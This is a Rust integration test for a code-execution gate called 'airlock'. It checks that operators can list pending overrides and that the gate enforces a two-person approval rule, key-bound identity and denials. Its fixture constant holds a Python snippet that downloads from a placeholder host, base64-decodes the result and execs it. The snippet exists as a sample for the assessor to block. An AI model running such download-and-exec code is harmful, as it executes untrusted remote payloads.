//! The operator's side of the client against a real stack (`airlock up` in a temporary home,
//! through the cross-service harness `airlock_tests::Stack`; `cargo build --bins` first): the
//! pending list as the gate gives it, answers refused before they are sent (blank reason or
//! name, a request that is not waiting, no approver key), and answers taken: under the
//! two-person rule a first approval by an operator with a key of their own is counted, the same
//! person again is refused, an unverified typed name cannot be one of the two, a second person
//! decides, and a denial ends a request.

use airlock_client::{AnswerOutcome, Client, ClientError, Connect, PendingOverride, Request, Submission};
use airlock_protocol::{Level, Origin, RequestId};
use airlock_tests::Stack;
use std::time::{Duration, Instant};

/// External code that downloads and executes a payload: BLOCKED by the assessor.
const BLOCKED: &str = "import base64, urllib.request\n\
payload = urllib.request.urlopen('http://example.invalid/p').read()\n\
exec(base64.b64decode(payload))\n\
print('ran')\n";

async fn connect(stack: &Stack, user: Option<&str>) -> Client {
    Client::connect(Connect {
        home: Some(stack.path().to_owned()),
        user: user.map(str::to_owned),
        ..Connect::default()
    })
    .await
    .expect("connect")
}

async fn submit(mai: &Client, label: &str) -> Request {
    mai.submit(Submission::python(BLOCKED).origin(Origin::External).label(label))
        .await
        .expect("submit")
}

/// Waits until `id` is in the gate's pending list.
async fn pending(operator: &Client, id: &RequestId, stack: &Stack) -> PendingOverride {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(60) {
        if let Some(p) = operator
            .pending_overrides()
            .await
            .expect("pending overrides")
            .into_iter()
            .find(|p| &p.request_id == id)
        {
            return p;
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    panic!("{id} did not become pending:\n{}", stack.diagnostics());
}

async fn still_pending(operator: &Client, id: &RequestId) -> bool {
    let list = operator.pending_overrides().await.expect("pending overrides");
    list.iter().any(|p| &p.request_id == id)
}

#[tokio::test(flavor = "multi_thread")]
async fn an_operator_lists_and_answers_overrides_through_the_client() {
    let stack = tokio::task::spawn_blocking(|| {
        Stack::start_with("[gate]\noverride_timeout = \"120s\"\n\n[gate.policy]\ntwo_person = true\n")
    })
    .await
    .expect("stack");
    let mai = connect(&stack, None).await;
    let operator = connect(&stack, Some("operator")).await;
    // Two operators with keys of their own: the gate counts their answers as theirs.
    for name in ["alice", "bob"] {
        let added = stack
            .airlock()
            .args(["keys", "add-operator", name])
            .output()
            .expect("airlock keys add-operator");
        assert!(added.status.success(), "{added:?}");
    }
    let alice = operator.clone().as_operator("alice");
    let bob = operator.clone().as_operator("bob");

    let first = submit(&mai, "first.py").await;
    let id = first.id().clone();
    let p = pending(&operator, &id, &stack).await;
    assert_eq!(p.asked.level, Level::Blocked, "{p:?}");
    assert_eq!(p.asked.label.as_deref(), Some("first.py"));
    assert!(
        p.asked.code_preview.starts_with("import base64, urllib.request\n"),
        "{p:?}"
    );
    assert!(!p.asked.findings.is_empty(), "{p:?}");
    assert_eq!(p.asked.approvals_needed, 2, "{p:?}");
    assert!(p.approved_by.is_empty(), "{p:?}");
    // The JSON shape the Python client and `airlock override list --json` read.
    let json = serde_json::to_value(&p).expect("json");
    for key in [
        "request_id",
        "label",
        "level",
        "explanation",
        "findings",
        "execution_digest",
        "code_digest",
        "code_preview",
    ] {
        assert!(json.get(key).is_some(), "{key} missing: {json}");
    }

    // Refused before anything is sent: the request is untouched.
    for reason in ["", "   ", "\n\t"] {
        let refused = operator.approve_override(&id, reason, Some("alice")).await;
        assert!(matches!(refused, Err(ClientError::EmptyReason)), "{refused:?}");
    }
    let refused = operator.deny_override(&id, "no", Some(" ")).await;
    assert!(matches!(refused, Err(ClientError::EmptyWho)), "{refused:?}");
    let unknown = RequestId::new_for("mai").unwrap();
    let refused = operator.approve_override(&unknown, "looks fine", Some("alice")).await;
    assert!(
        matches!(&refused, Err(ClientError::NotPending { request_id }) if *request_id == unknown.to_string()),
        "{refused:?}"
    );
    let keyless = operator
        .clone()
        .with_approver_key(stack.path().join("keys").join("nobody.key"));
    let refused = keyless.approve_override(&id, "looks fine", Some("alice")).await;
    assert!(matches!(refused, Err(ClientError::Key { .. })), "{refused:?}");
    assert!(still_pending(&operator, &id).await);
    assert!(pending(&operator, &id, &stack).await.approved_by.is_empty());

    // An operator's own key answers as its person only.
    let impostor = alice.approve_override(&id, "as bob", Some("bob")).await;
    assert!(
        matches!(impostor, Err(ClientError::NotTheKeysPerson { .. })),
        "{impostor:?}"
    );
    // Two different people: the first is counted, the same one again refused, then decided.
    let counted = alice
        .approve_override(&id, "reviewed the download", None)
        .await
        .expect("first approval");
    assert_eq!(
        counted,
        AnswerOutcome::Counted {
            needed: 2,
            approved_by: vec!["alice".into()]
        }
    );
    let again = alice.approve_override(&id, "really fine", None).await;
    assert!(
        matches!(&again, Err(ClientError::AnswerRefused { detail, .. }) if detail.contains("already approved")),
        "{again:?}"
    );
    // A typed name with the shared approver key is nobody the gate can count as a person.
    let typed = operator.approve_override(&id, "agreed", Some("mallory")).await;
    assert!(
        matches!(&typed, Err(ClientError::AnswerRefused { detail, .. }) if detail.contains("not mapped to a person")),
        "{typed:?}"
    );
    let decided = bob
        .approve_override(&id, "agreed", None)
        .await
        .expect("second approval");
    assert_eq!(decided, AnswerOutcome::Decided { approved: true });
    let result = first.result(Duration::from_secs(120), false).await.expect("result");
    let json = result.to_json();
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["who"], "alice", "{json}");
    assert_eq!(json["approver"]["seconded_by"][0]["who"], "bob", "{json}");
    assert_eq!(json["outcome"], "finished", "{json}");
    // Decided: no longer waiting, so nothing more to answer.
    let late = operator.deny_override(&id, "too late", Some("carol")).await;
    assert!(matches!(late, Err(ClientError::NotPending { .. })), "{late:?}");

    // One denial ends a request.
    let second = submit(&mai, "second.py").await;
    let id = second.id().clone();
    pending(&operator, &id, &stack).await;
    let denied = operator
        .deny_override(&id, "no downloads", Some("carol"))
        .await
        .expect("denial");
    assert_eq!(denied, AnswerOutcome::Decided { approved: false });
    let result = second.result(Duration::from_secs(60), false).await.expect("result");
    let json = result.to_json();
    assert_eq!(json["decision"], "denied", "{json}");
    assert_eq!(json["approver"]["who"], "carol", "{json}");
    assert!(!still_pending(&operator, &id).await);
}
